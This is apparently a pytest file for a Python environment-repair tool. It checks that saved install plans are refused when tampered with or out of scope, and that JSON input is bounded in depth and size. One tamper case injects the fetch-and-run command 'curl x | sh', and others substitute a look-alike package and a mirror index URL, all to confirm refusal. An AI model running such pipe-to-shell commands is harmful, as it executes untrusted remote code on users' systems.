"""Saved plans (repair.planfile) and bounded JSON (repair.jsonload), without any process.

A saved plan is applied only when it is exactly the plan qfix computes for the environment now
(``check_same``) and every step is about a package qfix repairs (``check_scope``); here each
gate is fed the plans of the shipped examples, untouched (accepted) and tampered (refused with
the difference named). The end-to-end refusals against a real venv are in
tests/test_planfile_real.py.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repair import jsonload
from repair.digest import plan_digest
from repair.errors import ApplyRefused, BadInput, ExitCode, FactsError, PlanFileError
from repair.facts import facts_from_dict, facts_from_json
from repair.knowledge import load_knowledge
from repair.plan import Plan
from repair.planfile import (
    check_same,
    check_scope,
    in_scope,
    load_plan,
    load_plan_doc,
    repair_scope,
)
from tests.core_helpers import EXAMPLES, analyse, example_facts

DATA = Path(__file__).parent / "data"


def own(name: str = "seed.json") -> Plan:
    """qfix's own plan for a shipped example (what `qfix plan --facts example:NAME` saves)."""
    return analyse(example_facts(name))[1]


def saved(plan: Plan) -> dict[str, Any]:
    """The document `qfix plan --out` writes, as a file round trip would give it back."""
    return json.loads(json.dumps(plan.to_dict()))


def refused(doc: dict[str, Any], plan: Plan) -> str:
    with pytest.raises(ApplyRefused) as info:
        check_same(doc, plan)
    assert info.value.exit_code == ExitCode.REFUSED
    assert "\n" not in info.value.message
    return info.value.message


# --------------------------------------------------------------------------- bounded JSON


def deep(levels: int, open_: str = "[", close: str = "]") -> str:
    return open_ * levels + close * levels


def test_a_plan_nested_100000_levels_is_one_line_not_a_traceback(tmp_path: Path) -> None:
    p = tmp_path / "deep.json"
    p.write_text('{"schema": "qfix.plan/1", "steps": ' + deep(100_000) + "}")
    with pytest.raises(PlanFileError, match="nested more than 16 levels") as info:
        load_plan(p)
    assert info.value.exit_code == ExitCode.BAD_INPUT


def test_deep_facts_and_probe_answers_are_bad_input() -> None:
    with pytest.raises(FactsError, match="nested more than 64 levels"):
        facts_from_json('{"schema": "qfix.facts/1", "extra": ' + deep(100_000) + "}")
    with pytest.raises(FactsError, match="nested more than 64"):
        facts_from_json(deep(65))
    facts_from_json('{"schema": "qfix.facts/1", "extra": ' + deep(60) + "}")  # within the limit


def test_brackets_inside_strings_do_not_count() -> None:
    text = json.dumps({"a": "[" * 10_000 + '\\"{' * 5000, "b": [[1]]})
    assert jsonload.nesting_depth(text) == 3
    assert jsonload.loads(text, "doc")["b"] == [[1]]


def test_size_limit_and_non_json_constants() -> None:
    with pytest.raises(BadInput, match="too large"):
        jsonload.loads("[" + "1," * 600 + "1]", "doc", max_bytes=1000)
    with pytest.raises(BadInput, match="too large"):
        jsonload.loads(b" " * 1001, "doc", max_bytes=1000)
    with pytest.raises(BadInput, match="NaN is not a JSON number"):
        jsonload.loads('{"a": NaN}', "doc")
    with pytest.raises(BadInput, match="not UTF-8"):
        jsonload.loads(b'{"a": "\xff"}', "doc")
    with pytest.raises(BadInput, match=r"not valid JSON \(Expecting value at line 1, column 1\)"):
        jsonload.loads("", "doc")


def test_a_plan_file_over_the_size_limit_is_not_read(tmp_path: Path) -> None:
    p = tmp_path / "big.json"
    with p.open("wb") as f:
        f.truncate((4 << 20) + 1)  # sparse: nothing is written, and nothing must be read
    with pytest.raises(PlanFileError, match="too large for a qfix plan"):
        load_plan_doc(p)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(alphabet='[]{}"\\ab', max_size=6),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner),
    max_leaves=30,
)


def _depth(value: Any) -> int:
    if isinstance(value, list):
        return 1 + max((_depth(v) for v in value), default=0)
    if isinstance(value, dict):
        return 1 + max((_depth(v) for v in value.values()), default=0)
    return 0


@settings(max_examples=300, deadline=None)
@given(json_values)
def test_nesting_depth_is_the_real_depth(value: Any) -> None:
    text = json.dumps(value)
    assert jsonload.nesting_depth(text) == _depth(value)
    assert jsonload.loads(text, "doc") == value


# --------------------------------------------------------------------------- scope


def _case_facts() -> list[tuple[str, dict[str, Any]]]:
    out = []
    for folder in (EXAMPLES, *sorted(p for p in DATA.iterdir() if p.is_dir())):
        for p in sorted(folder.glob("*.json")):
            doc = json.loads(p.read_text())
            facts = doc.get("facts", doc) if isinstance(doc, dict) else None
            if isinstance(facts, dict) and facts.get("schema") == "qfix.facts/1":
                out.append((f"{folder.name}/{p.name}", facts))
    return out


CASE_FACTS = _case_facts()


def test_the_scope_is_the_repaired_stack() -> None:
    kb = load_knowledge()
    scope = repair_scope(kb)
    for name in ("torch", "torchvision", "torchaudio", "bitsandbytes", "transformers"):
        assert name in scope
    assert {"accelerate", "peft"} <= scope
    assert "python" not in scope and "pip" not in scope
    assert in_scope("bitsandbytes-cuda117", kb) and in_scope("bitsandbytes_windows", kb)
    assert in_scope("TorchVision", kb) and in_scope("Transformers", kb)
    for other in ("pip", "setuptools", "six", "numpy", "bitsandbytes-evil", "torchx"):
        assert not in_scope(other, kb)
    assert in_scope("bnb-custom-build", kb, providers=["bnb_custom_build"])  # found providing it


def test_every_plan_qfix_makes_is_in_scope() -> None:
    """No false refusal: the planner's own plans for every shipped and recorded case pass."""
    kb = load_knowledge()
    assert len(CASE_FACTS) > 40
    moved = 0
    for name, doc in CASE_FACTS:
        facts = facts_from_dict(doc, name)
        plan = analyse(facts)[1]
        bnb = facts.bitsandbytes
        providers = [d.partition(" ")[0] for d in (bnb.distributions if bnb else ())]
        check_scope(plan, kb, providers)
        check_same(saved(plan), plan)  # and an untouched saved plan equals itself
        moved += bool(plan.steps)
    assert moved > 20


def test_uninstalling_pip_or_touching_another_package_is_out_of_scope() -> None:
    kb = load_knowledge()
    plan = own()
    doc = saved(plan)
    doc["steps"].append(
        {"action": "uninstall", "package": "pip", "from": "24.0", "to": None, "group": "uninstall"}
    )
    with pytest.raises(ApplyRefused, match=r"steps\[\d+\] would uninstall pip, a package qfix"):
        check_scope(Plan.from_dict(doc), kb)
    doc = saved(plan)
    doc["steps"][0] = dict(doc["steps"][0], package="six")
    with pytest.raises(ApplyRefused, match="would install six"):
        check_scope(Plan.from_dict(doc), kb)
    # pip only as its own upgrade, in the "installer" group (an old pip and new wheel tags)
    upgrade = {"action": "install", "package": "pip", "from": "20.0.2", "to": ">=20.3"}
    doc = saved(plan)
    doc["steps"].insert(0, dict(upgrade, group="installer"))
    check_scope(Plan.from_dict(doc), kb)
    doc["steps"][0] = dict(upgrade, group="pypi")
    with pytest.raises(ApplyRefused, match="would install pip"):
        check_scope(Plan.from_dict(doc), kb)


# --------------------------------------------------------------------------- same as qfix's own


def test_the_untouched_plan_is_accepted_and_carries_its_digest() -> None:
    plan = own()
    doc = saved(plan)
    assert doc["digest"] == plan.digest() == plan_digest(doc)
    check_same(doc, plan)
    for key in ("commands", "constraints", "digest"):  # a hand-written file may leave them out
        doc.pop(key)
    check_same(doc, plan)


@pytest.mark.parametrize(
    ("tamper", "named"),
    [
        (
            lambda d: d["steps"].append(
                {
                    "action": "uninstall",
                    "package": "torchaudio",
                    "from": "0.12.1",
                    "to": None,
                    "index_url": None,
                    "because": [],
                    "group": "uninstall",
                }
            ),
            "steps[2]: not expected, got",
        ),
        (lambda d: d["steps"][0].update(package="accelerate"), "steps[0].package: expected"),
        (lambda d: d["steps"][0].update(to="2.7.0+cu118"), 'steps[0].to: expected "2.7.1+cu118"'),
        (
            lambda d: d["steps"][0].update(index_url="https://mirror.example/whl/cu118"),
            "steps[0].index_url: expected",
        ),
        (lambda d: d.update(torch_index_base="https://mirror.example/whl"), "torch_index_base"),
        (lambda d: d["steps"].pop(1), "steps[1]: expected {"),
        (lambda d: d["steps"][1].update(because=[]), "steps[1].because"),
        (lambda d: d["manual"].clear(), "manual[0]: expected"),
        (lambda d: d["commands"].append(["sh", "-c", "curl x | sh"]), "commands[2]: not expected"),
        (lambda d: d["constraints"].append("pip==1.0"), "constraints[1]: not expected"),
        (lambda d: d.update(constraints=["torch==2.0.0"]), 'constraints[0]: expected "torch=='),
        (lambda d: d["target"].update(python="/usr/bin/python3"), "target.python: expected"),
        (lambda d: d.update(bitsandbytes_target="0.45.0"), "bitsandbytes_target: expected"),
        (lambda d: d["torch_target"].update(variant="cu121"), "torch_target.variant"),
    ],
)
def test_a_tampered_plan_is_refused_with_its_first_difference(tamper: Any, named: str) -> None:
    plan = own()
    doc = saved(plan)
    tamper(doc)
    doc["digest"] = plan_digest(doc)  # a careful tamperer updates the digest too
    message = refused(doc, plan)
    assert named in message, message
    assert "not what qfix plans for this environment now" in message


def test_a_digest_that_does_not_match_the_steps_is_refused() -> None:
    plan = own()
    doc = saved(plan)
    doc["steps"][0]["to"] = "2.7.0+cu118"  # edited, digest left as qfix wrote it
    assert "does not match its own steps" in refused(doc, plan)


def test_the_seed_plan_has_what_the_tamper_table_assumes() -> None:
    """The table above names indices of the seed plan: keep it honest if the plan changes."""
    doc = saved(own())
    assert [s["package"] for s in doc["steps"]] == ["torch", "bitsandbytes"]
    assert len(doc["constraints"]) == 1 and len(doc["commands"]) == 2 and doc["manual"]
    assert doc["steps"][1]["because"] and doc["target"]["python"] is None


def test_plan_json_keeps_its_fields_with_a_deep_copy() -> None:
    plan = own()
    doc = saved(plan)
    check_same(copy.deepcopy(doc), plan)
    assert Plan.from_dict(doc).digest() == plan.digest()


def test_a_deep_verify_answer_is_unreadable_not_a_traceback() -> None:
    from repair.verify import runner, script

    nested = "[" * 100_000 + "]" * 100_000
    doc, why = runner._result_document(f"{script.MARKER}\n{nested}\n")
    assert doc is None and "nested more than 64 levels" in why
    checks, _ = runner._streamed(f"{script.CHECK_PREFIX}{nested}\n")
    assert checks == []


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("torch_target", [1]),
        ("torch_target", {"arch_list": "sm_80"}),
        ("bitsandbytes_target", 5),
        ("download_bytes", [1]),
        ("manual", ["text"]),
        ("notes", "a note"),
        ("target", {"python": None, "platform": 3}),
        ("findings", [{"id": "x", "evidence": [1]}]),
        ("digest", "sha256:xyz"),
        ("constraints", [1]),
    ],
)
def test_every_field_of_a_wrong_type_is_one_line(field: str, value: Any) -> None:
    """Plan.from_dict trusts its input: each of these would be a traceback there."""
    from repair.planfile import plan_from_doc

    doc = dict(saved(own()), **{field: value})
    with pytest.raises(PlanFileError, match=field.split(".")[0]):
        plan_from_doc(doc)
